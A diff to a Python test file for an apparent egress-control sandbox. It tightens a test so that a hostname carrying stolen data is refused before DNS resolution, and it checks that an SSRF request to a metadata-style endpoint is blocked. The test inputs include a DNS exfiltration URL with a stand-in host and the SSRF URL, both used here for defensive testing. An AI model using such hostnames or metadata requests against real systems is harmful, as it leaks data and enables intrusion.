@@ -63,8 +63,11 @@ def test_what_egress_forwards_is_judged_out_and_what_it_blocks_contained(transpo
 def test_names_egress_resolves_are_recorded_and_private_addresses_reach_only_the_private_upstream(transport, site):
     named = case("exfil-hostname", {"url": "https://{{stolen_data}}.wild.test/"})
     outcome = transport.run(named)
-    assert outcome.dns_queries == [named.wires[0].host]
-    assert not judge(named, outcome, site).contained  # resolved, so out, whatever came after
+    assert outcome.dns_queries == []  # refused before anything resolved it
+    assert judge(named, outcome, site).contained
+    ordinary = case("benign-hostname", {"url": "https://www.wild.test/"}, kind="benign")
+    outcome = transport.run(ordinary)
+    assert outcome.dns_queries == ["www.wild.test"]
     ssrf = case("ssrf", {"url": "http://metadata.corpus.test/latest/meta-data/"})
     outcome = transport.run(ssrf)
     assert outcome.arrivals == [] and outcome.exchanges[0][0].block_reason == "private_address"
